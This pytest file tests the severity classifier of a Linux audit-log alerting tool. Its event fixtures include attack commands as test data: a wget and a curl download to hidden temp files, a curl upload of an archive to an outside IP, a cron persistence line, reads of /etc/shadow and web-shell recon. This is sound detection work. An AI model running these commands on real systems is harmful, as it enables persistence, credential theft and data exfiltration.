"""Severity of one event, from what it is and what it did (severity.py).

The records are written as the kernel and PAM write them (x86_64 syscall
numbers, hex flags, the PATH records of the objects), read by the real
auparse: a rule here reads what a host's audit log holds.
"""

import shlex

import pytest
from corpus import all_corpus_files, events_of, read
from records import O_RDONLY, O_WRONLY_APPEND, O_WRONLY_CREAT_TRUNC, UNSET, event, sudo_cmd
from records import config_change as _config_change
from records import syscall as _syscall
from records import user as _user

from audit_notify.message import V
from audit_notify.phrases import effect
from audit_notify.severity import CRITICAL, INFO, LEVELS, WARNING, Verdict, classify


def syscall(name, **fields):
    return event(_syscall(name, **fields))


def user(rtype, op, **fields):
    return event(_user(rtype, op, **fields))


def config_change(text, **fields):
    return event(_config_change(text, **fields))


def _event(text):
    return event(text + "\n")


def level(event):
    return classify(event).severity


# -- record types --------------------------------------------------------------

def test_accounts_added_or_deleted_are_critical():
    for rtype in ("ADD_USER", "DEL_USER", "ADD_GROUP", "DEL_GROUP"):
        assert level(user(rtype, "adding user", exe="/usr/sbin/useradd", uid="0", auid="1000")) == CRITICAL


def test_blinding_the_watcher_is_critical_loading_rules_is_not():
    assert classify(config_change("op=remove_rule key=\"identity\" list=4")).why == "audit rules deleted"
    assert level(config_change("op=remove_rule key=\"identity\" list=4")) == CRITICAL
    assert level(config_change("op=set audit_enabled=0 old=1")) == CRITICAL
    assert level(config_change("op=add_rule key=\"identity\" list=4")) == WARNING
    stop = _event("type=DAEMON_END msg=audit(1700000000.000:77): op=terminate auid=0 uid=0 ses=3 pid=1 "
                  "subj=unconfined res=success")
    assert classify(stop).severity == CRITICAL


def test_a_failed_login_is_a_warning_a_good_password_is_routine():
    assert classify(user("USER_AUTH", "PAM:authentication", res="failed")).why == "login failed"
    assert level(user("USER_AUTH", "PAM:authentication", res="failed")) == WARNING
    assert level(user("USER_AUTH", "PAM:authentication")) == INFO
    assert level(user("USER_LOGIN", "login", extra="id=1000 ")) == WARNING
    assert level(user("CRED_DISP", "PAM:setcred")) == INFO


def test_root_setting_a_password_is_critical_a_person_changing_their_own_is_not():
    assert level(user("USER_CHAUTHTOK", "PAM:chauthtok", exe="/usr/sbin/chpasswd", uid="0", auid="1000")) == CRITICAL
    assert level(user("USER_CHAUTHTOK", "PAM:chauthtok", exe="/usr/bin/passwd", uid="1000", auid="1000")) == WARNING


# -- what a syscall did ----------------------------------------------------------

@pytest.mark.parametrize("path, why", [
    ("/etc/sudoers.d/90-backdoor", "sudoers changed"), ("/etc/cron.d/update", "cron changed"),
    ("/home/bob/.ssh/authorized_keys", "authorized_keys changed"), ("/etc/ld.so.preload", "ld.so.preload changed"),
    ("/etc/systemd/system/evil.service", "systemd changed"), ("/etc/profile.d/x.sh", "login scripts changed"),
    ("/etc/pam.d/sshd", "PAM changed"), ("/usr/bin/ls", "system programs changed"),
])
def test_writing_where_persistence_lives_is_critical_whatever_the_key(path, why):
    event = syscall("openat", a0="ffffff9c", a2=O_WRONLY_CREAT_TRUNC, paths=[(path, "CREATE")], key="anything")
    assert classify(event).severity == CRITICAL and classify(event).why == why


def test_reading_those_places_is_not_critical():
    event = syscall("openat", a0="ffffff9c", a2=O_RDONLY, paths=[("/etc/cron.d/update", "NORMAL")], key="cron")
    assert level(event) != CRITICAL


def test_a_critical_key_on_a_read_is_routine():
    """A watch without -p wa fires on reads too: pam_unix reads /etc/shadow
    at every login, under a rule meant for writes."""
    event = syscall("openat", exe="/usr/sbin/unix_chkpwd", a0="ffffff9c", a2=O_RDONLY,
                    paths=[("/etc/passwd", "NORMAL")], key="identity", uid="0", auid=UNSET)
    assert level(event) == INFO


def test_the_shadow_file_read_by_a_person_warns_read_by_a_daemon_is_routine():
    path = [("/etc/shadow", "NORMAL")]
    assert level(syscall("openat", exe="/usr/bin/cat", a0="ffffff9c", a2=O_RDONLY, paths=path, uid="1000")) == WARNING
    assert level(syscall("openat", exe="/usr/sbin/sshd", a0="ffffff9c", a2=O_RDONLY, paths=path, uid="0",
                         auid=UNSET)) == INFO


@pytest.mark.parametrize("exe, severity, why", [
    ("/tmp/.x", CRITICAL, "a hidden file in a temporary place"), ("/dev/shm/run", CRITICAL, "a temporary place"),
    ("/home/bob/.config/.miner", CRITICAL, "a hidden file"),
    ("/home/bob/.cache/tool/miner", WARNING, "a hidden directory"),
    ("/home/bob/.local/bin/black", INFO, ""), ("/root/.nvm/versions/node/v20/bin/node", INFO, ""),
])
def test_a_program_run_from_a_scratch_or_hidden_place_is_news(exe, severity, why):
    """Installs put programs in bin directories, hidden ones too (pip
    --user, cargo, nvm); a program elsewhere under a dot-directory, or one
    with a hidden name, or in /tmp, was put there by hand."""
    event = syscall("execve", exe=exe, a0="55d0", paths=[(exe, "NORMAL")], argv=(exe,))
    assert level(event) == severity
    if why:
        assert classify(event).why == "program run from " + why


def test_a_program_run_from_the_systems_directories_is_not():
    event = syscall("execve", exe="/usr/bin/ls", a0="55d0", paths=[("/usr/bin/ls", "NORMAL")], argv=("ls",))
    assert level(event) == INFO


def test_a_setuid_root_program_outside_the_systems_directories_is_critical():
    event = syscall("execve", exe="/home/bob/sh", a0="55d0", paths=[("/home/bob/sh", "NORMAL")], uid="1000",
                    euid="0", argv=("./sh",))
    assert classify(event).why == "setuid-root program run from outside the system's directories"


def test_setting_a_setuid_bit_is_critical_an_ordinary_chmod_is_not():
    assert level(syscall("fchmodat", a0="ffffff9c", a1="55d0", a2="9ed", paths=[("/home/bob/sh", "NORMAL")],
                         key="perm_mod")) == CRITICAL  # 04755
    assert level(syscall("fchmodat", a0="ffffff9c", a1="55d0", a2="1ed", paths=[("/home/bob/sh", "NORMAL")],
                         key="perm_mod")) == INFO  # 0755: perm_mod is a flood key


def test_a_module_load_is_critical_even_when_the_kernel_refuses_it():
    refused = syscall("finit_module", exe="/usr/sbin/insmod", success="no", exit_="-38", key="modules")
    assert (level(refused), classify(refused).why) == (CRITICAL, "kernel module load tried")


def test_erasing_a_log_or_a_history_warns_appending_to_a_log_does_not():
    erase = syscall("unlinkat", exe="/usr/bin/rm", a0="ffffff9c", paths=[("/root", "PARENT"),
                                                                         ("/root/.bash_history", "DELETE")])
    assert classify(erase).why == "shell history erased" and level(erase) == WARNING
    append = syscall("openat", exe="/usr/sbin/rsyslogd", a0="ffffff9c", a2=O_WRONLY_APPEND,
                     paths=[("/var/log/syslog", "NORMAL")], uid="0", auid=UNSET)
    assert level(append) == INFO


def test_auditd_writing_its_own_log_is_not_tampering():
    rotate = syscall("rename", exe="/usr/sbin/auditd", paths=[("/var/log/audit/audit.log", "DELETE")], uid="0",
                     auid=UNSET)
    other = syscall("truncate", exe="/usr/bin/truncate", paths=[("/var/log/audit/audit.log", "NORMAL")])
    assert level(rotate) != CRITICAL and level(other) == CRITICAL


def test_a_person_setting_the_clock_warns_the_time_daemon_does_not():
    assert level(syscall("clock_settime", exe="/usr/bin/date")) == WARNING
    assert level(syscall("clock_settime", exe="/usr/sbin/chronyd", uid="0", auid=UNSET)) == INFO


def test_ptrace_that_writes_into_a_process_is_critical_peeking_warns():
    assert level(syscall("ptrace", exe="/usr/bin/gdb", a0="10")) == CRITICAL  # PTRACE_ATTACH
    assert level(syscall("ptrace", exe="/usr/bin/gdb", a0="2")) == WARNING  # PTRACE_PEEKDATA


# -- rule keys -------------------------------------------------------------------

def test_a_key_nobody_knows_on_a_watch_warns_on_an_exec_rule_is_routine():
    watch = syscall("openat", a0="ffffff9c", a2=O_WRONLY_CREAT_TRUNC, paths=[("/srv/app/config.yml", "NORMAL")],
                    key="my-app-config")
    assert (level(watch), classify(watch).why) == (WARNING, "rule my-app-config")
    run = syscall("execve", exe="/usr/bin/git", a0="55d0", paths=[("/usr/bin/git", "NORMAL")], key="my-execs",
                  argv=("git", "pull"))
    assert level(run) == INFO


def test_a_known_key_says_what_the_rule_was_for():
    flood = syscall("execve", exe="/usr/bin/id", a0="55d0", paths=[("/usr/bin/id", "NORMAL")], key="rootcmd",
                    uid="0", argv=("id",))
    assert level(flood) == INFO  # Neo23x0's "every root command": telemetry, not news


def test_every_corpus_event_gets_a_level_and_a_reason():
    seen = set()
    for path in all_corpus_files():
        for one in events_of(read(path)):
            verdict = classify(one)
            assert verdict.severity in LEVELS and verdict.why, (path, one.records)
            seen.add(verdict.severity)
    assert seen == set(LEVELS)


# -- what a command line says ----------------------------------------------------

def test_a_command_line_that_erases_logs_warns_even_when_only_the_exec_is_logged():
    run = syscall("execve", exe="/usr/bin/truncate", a0="55d0", paths=[("/usr/bin/truncate", "NORMAL")], uid="0",
                  argv=("truncate", "-s", "0", "/var/log/app.log"))
    assert (level(run), classify(run).why) == (WARNING, "command: logs erased")
    plain = syscall("execve", exe="/usr/bin/truncate", a0="55d0", paths=[("/usr/bin/truncate", "NORMAL")], uid="0",
                    argv=("truncate", "-s", "0", "/srv/data.bin"))
    assert level(plain) == INFO


def test_a_download_into_a_scratch_or_hidden_place_warns_from_the_exec_or_the_process_title():
    run = syscall("execve", exe="/usr/bin/wget", a0="55d0", paths=[("/usr/bin/wget", "NORMAL")],
                  argv=("wget", "-q", "-O", "/tmp/.u", "http://198.51.100.1/u"))
    assert (level(run), classify(run).why) == (WARNING, "download to a hidden file in a temporary place")
    title = "\0".join(("curl", "--output=/dev/shm/x", "http://198.51.100.1/x")).encode().hex().upper()
    connect = event(_syscall("connect", exe="/usr/bin/curl", a0="4").replace(
        "type=EOE", "type=PROCTITLE msg=audit(1700000000.000:77): proctitle=%s\ntype=EOE" % title))
    assert (level(connect), classify(connect).why) == (WARNING, "download to a temporary place")
    home = syscall("execve", exe="/usr/bin/curl", a0="55d0", paths=[("/usr/bin/curl", "NORMAL")],
                   argv=("curl", "-o", "/home/bob/report.pdf", "https://example.org/r.pdf"))
    assert level(home) == INFO


def test_making_a_hidden_file_in_tmp_executable_is_critical_a_plain_one_warns():
    hidden = syscall("fchmodat", exe="/usr/bin/chmod", a0="ffffff9c", a1="55d0", a2="1ed",
                     paths=[("/tmp/.u", "NORMAL")])
    assert (level(hidden), classify(hidden).why) == (CRITICAL, "made executable in a hidden file in a temporary place")
    plain = syscall("fchmodat", exe="/usr/bin/chmod", a0="ffffff9c", a1="55d0", a2="1ed",
                    paths=[("/tmp/install.sh", "NORMAL")])
    assert level(plain) == WARNING
    home = syscall("fchmodat", exe="/usr/bin/chmod", a0="ffffff9c", a1="55d0", a2="1ed",
                   paths=[("/home/bob/bin/tool", "NORMAL")])
    assert level(home) == INFO


def test_by_type_passes_over_syscall_events_only_where_no_type_rule_could_judge_them():
    """by_type returns at once for a SYSCALL event without an AppArmor
    field (most events); that holds while no map of types names SYSCALL.
    An AppArmor denial whose event starts with its SYSCALL record is still
    judged by type."""
    from audit_notify import severity
    for name in ("_ACCOUNT_TYPES", "_ANOMALY_CRITICAL", "_DAEMON", "_LOGIN_FAILURES", "_SIMPLE"):
        assert "SYSCALL" not in getattr(severity, name), name
    denied = events_of(
        b'type=SYSCALL msg=audit(1700000000.000:7): arch=c000003e syscall=257 success=no exit=-13 a0=ffffff9c '
        b'a1=5 a2=0 a3=0 items=1 ppid=1 pid=2 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 '
        b'egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=3 comm="cat" exe="/usr/bin/cat" key=(null)\n'
        b'type=AVC msg=audit(1700000000.000:7): apparmor="DENIED" operation="open" profile="p" '
        b'name="/etc/shadow" pid=2 comm="cat" requested_mask="r" denied_mask="r" fsuid=1000 ouid=0\n'
        b'type=EOE msg=audit(1700000000.000:7): \n')
    assert [e.get("type") for e in denied] == ["SYSCALL"]
    assert severity.by_type(denied[0]) == severity.Verdict(WARNING, "access denied by AppArmor")


# -- the command line, whatever rule saw it (evidence.py) ------------------------

CRON_LINE = "echo '*/10 * * * * root /tmp/.update.sh' > /etc/cron.d/zz-persist"


def test_a_sudo_whose_command_writes_cron_is_critical_without_any_watch_on_cron():
    """STIG's rules log sudo's USER_CMD but watch no /etc/cron.d: the
    command line is the evidence of the write."""
    wrote = event(sudo_cmd("sh -c " + shlex.quote(CRON_LINE)))
    assert classify(wrote) == Verdict(CRITICAL, "command: cron written")
    assert classify(event(sudo_cmd("ls /var/log"))) == Verdict(WARNING, "sudo")


def test_a_refused_sudo_of_the_same_is_an_attempt():
    refused = event(sudo_cmd("sh -c " + shlex.quote(CRON_LINE), res="failed"))
    assert classify(refused) == Verdict(WARNING, "command: cron written")


def test_an_exec_of_a_shell_that_writes_cron_is_critical():
    run = syscall("execve", exe="/usr/bin/dash", a0="55d0", paths=[("/bin/sh", "NORMAL")], uid="0", auid="1003",
                  argv=("sh", "-c", CRON_LINE), key="rootcmd")
    assert classify(run) == Verdict(CRITICAL, "command: cron written")
    plain = syscall("execve", exe="/usr/bin/dash", a0="55d0", paths=[("/bin/sh", "NORMAL")], uid="0", auid="1003",
                    argv=("sh", "-c", "echo '*/10 * * * *' > /tmp/cron.txt"), key="rootcmd")
    assert level(plain) == INFO


def _service_shell(uid="33", auid=UNSET, ppid=812, argv=("sh", "-c", "id; uname -a; cat /etc/passwd")):
    """www-data's CGI child running a shell, as the kernel logs its exec."""
    return syscall("execve", exe="/usr/bin/dash", a0="55d0", paths=[("/bin/sh", "NORMAL")], uid=uid, auid=auid,
                   ppid=ppid, pid=9120, tty="(none)", argv=argv)


def test_a_shell_started_by_a_service_account_is_a_web_shell():
    assert classify(_service_shell()) == Verdict(CRITICAL, "shell started by a service account")
    recon = syscall("execve", exe="/usr/bin/id", a0="55d0", paths=[("/usr/bin/id", "NORMAL")], uid="33", auid=UNSET,
                    ppid=812, tty="(none)", argv=("id",))
    assert classify(recon) == Verdict(CRITICAL, "shell started by a service account")


def test_a_service_started_by_init_or_a_persons_shell_is_not():
    assert level(_service_shell(ppid=1)) != CRITICAL  # systemd starting the service's own shell script
    assert level(_service_shell(auid="1000")) != CRITICAL  # a person's session: su www-data -s /bin/sh
    assert level(_service_shell(uid="1000")) != CRITICAL  # a person's uid, outside a session (cron, at)


def test_the_shadow_file_read_by_an_ordinary_user_is_only_a_warning():
    """An ordinary user's cat of /etc/shadow fails (EACCES): an attempt;
    root's (sudo's child) reads the hashes."""
    def cat(euid):
        return syscall("execve", exe="/usr/bin/cat", a0="55d0", paths=[("/usr/bin/cat", "NORMAL")], uid=euid,
                       auid="1001", argv=("cat", "/etc/shadow"))
    assert classify(cat("1001")) == Verdict(WARNING, "command: password hashes read")
    assert classify(cat("0")) == Verdict(CRITICAL, "command: password hashes read")


def test_the_deed_is_said_with_its_values_marked_as_untrusted():
    wrote = event(sudo_cmd("sh -c " + shlex.quote(CRON_LINE)))
    parts = effect(classify(wrote).why, wrote)
    assert parts == ("wrote ", "/etc/cron.d/zz-persist", " (cron)")
    assert [isinstance(part, V) for part in parts] == [False, True, False]
    run = syscall("execve", exe="/usr/bin/curl", a0="55d0", paths=[("/usr/bin/curl", "NORMAL")], uid="0",
                  argv=("curl", "-T", "/tmp/a.tgz", "http://198.51.100.1:8000/"))
    parts = effect(classify(run).why, run)
    assert parts == ("uploaded ", "/tmp/a.tgz", " to ", "198.51.100.1:8000")
    assert [isinstance(part, V) for part in parts] == [False, True, False, True]


# -- the place tables ------------------------------------------------------------

def _place_as_read(path, table):
    """place() as the tables are written: each pattern in turn, fnmatch's glob."""
    import fnmatch
    for pattern, label in table:
        if pattern.endswith("/"):
            if fnmatch.fnmatchcase(path, pattern + "*") or path + "/" == pattern:
                return label
        elif fnmatch.fnmatchcase(path, pattern):
            return label
    return None


def test_a_place_is_the_first_pattern_of_its_table_that_the_path_falls_under():
    from audit_notify import evidence, severity
    tables = [value for module in (severity, evidence) for value in vars(module).values()
              if isinstance(value, tuple) and value and all(isinstance(entry, tuple) and len(entry) == 2
                                                            and isinstance(entry[0], str) for entry in value)]
    assert len(tables) >= 5
    # Each pattern's own text, cut and lengthened, in other directories,
    # with odd bytes: where the tables' globs and directories begin and end.
    paths = {"", "/", "x", "/etc", "/etc/", "/etc/x", "/home/a/.ssh", "/home/a/.ssh/id_rsa", "/root/.ssh/id_ed25519.pub",
             "/srv/data/file", "/etc/ssh/ssh_host_rsa_key", "/etc/ssh/ssh_host_rsa_key.pub", "/a\nb/.bashrc",
             "/var/log/auth.log.1", "/var/log/wtmp", "/var/log/wtmpx", "/var/log/audit", "/tmp/x/../etc/passwd",
             "/etcx/passwd", "/et", "//etc/passwd", "etc/passwd", "/srv/data/u1/f2", "/home"}
    for table in tables:
        for pattern, _ in table:
            plain = pattern.replace("*", "")
            for path in (pattern, plain, plain.rstrip("/"), plain + "x", plain + "/x", "/home/u" + plain,
                         plain[:-1], "x" + plain, pattern.replace("*", "a/b"), plain.upper()):
                paths.add(path)
    for table in tables:
        for path in sorted(paths):
            assert severity.place(path, table) == _place_as_read(path, table), (path, table[:2])
